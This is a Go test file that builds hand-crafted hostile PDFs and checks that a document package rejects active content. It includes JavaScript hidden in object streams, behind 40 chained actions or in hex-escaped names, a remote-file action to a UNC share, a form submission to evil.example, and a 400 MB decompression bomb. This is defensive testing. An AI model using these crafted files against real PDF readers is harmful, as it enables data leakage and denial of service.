package document_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/radicador/radicador/document"
)

// Hostile PDFs written by hand: what a public form may be sent.

// classic writes objs (numbered from 1, the catalog first) with a classic
// cross-reference table.
func classic(objs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	x := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, x)
	return b.Bytes()
}

// packed writes a catalog (1), pages (2), a page (3), and hidden (4)
// packed in an object stream (5) — compressed when bomb is not 0, with
// that many spaces after it — and a cross-reference stream (6).
func packed(catalog, hidden string, bomb int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	offs := map[int]int{}
	obj := func(n int, s string) {
		offs[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, s)
	}
	obj(1, catalog)
	obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
	head := "4 0 "
	body := []byte(head + hidden)
	filter := ""
	if bomb > 0 {
		var z bytes.Buffer
		w := zlib.NewWriter(&z)
		w.Write(body)
		w.Write(bytes.Repeat([]byte(" "), bomb))
		w.Close()
		body, filter = z.Bytes(), " /Filter /FlateDecode"
	}
	offs[5] = b.Len()
	fmt.Fprintf(&b, "5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d%s >>\nstream\n", len(head), len(body), filter)
	b.Write(body)
	b.WriteString("\nendstream\nendobj\n")
	offs[6] = b.Len()
	var xref bytes.Buffer
	entry := func(typ byte, f2 uint32, f3 uint16) {
		xref.WriteByte(typ)
		binary.Write(&xref, binary.BigEndian, f2)
		binary.Write(&xref, binary.BigEndian, f3)
	}
	entry(0, 0, 0xffff)
	for n := 1; n <= 6; n++ {
		if n == 4 {
			entry(2, 5, 0)
		} else {
			entry(1, uint32(offs[n]), 0)
		}
	}
	fmt.Fprintf(&b, "6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xref.Len())
	b.Write(xref.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", offs[6])
	return b.Bytes()
}

func TestHostilePDFs(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, data []byte) string {
		p := filepath.Join(dir, name)
		os.WriteFile(p, data, 0o644)
		return p
	}
	const pages, page = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
	plain := write("plain.pdf", packed("<< /Type /Catalog /Pages 2 0 R >>", "<< /Producer (a) >>", 0))
	if _, err := document.Inspect(plain); err != nil {
		t.Fatalf("a plain packed PDF does not read: %v", err)
	}
	if err := document.CheckPassive(plain); err != nil {
		t.Errorf("a plain packed PDF: %v", err)
	}
	next := "<< /S /JavaScript /JS (app.alert(1)) >>"
	for range 40 {
		next = "<< /S /GoTo /D [3 0 R /Fit] /Next " + next + " >>"
	}
	for _, tc := range []struct {
		name string
		data []byte
	}{
		{"script packed in an object stream", packed("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>", 0)},
		{"script at the end of 40 actions", classic("<< /Type /Catalog /Pages 2 0 R /OpenAction "+next+" >>", pages, page)},
		{"a name written in hex", classic("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (x) >> >>", pages, page)},
		{"an action into another file", classic("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> >>", pages, page)},
		{"a form sent elsewhere", classic("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>", pages, page)},
	} {
		if err := document.CheckPassive(write(strings.ReplaceAll(tc.name, " ", "-")+".pdf", tc.data)); !errors.Is(err, document.ErrActive) {
			t.Errorf("%s: %v", tc.name, err)
		}
	}
	// An object stream that inflates to 400 MB: refused within bounds.
	bomb := write("bomb.pdf", packed("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", "<< /S /GoTo /D [3 0 R /Fit] >>", 400<<20))
	var m0, m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	_, ierr := document.Inspect(bomb)
	perr := document.CheckPassive(bomb)
	runtime.ReadMemStats(&m1)
	if ierr == nil && perr == nil {
		t.Error("a decompression bomb passed")
	}
	if alloc := (m1.TotalAlloc - m0.TotalAlloc) >> 20; alloc > 600 {
		t.Errorf("a decompression bomb took %d MB", alloc)
	}
}
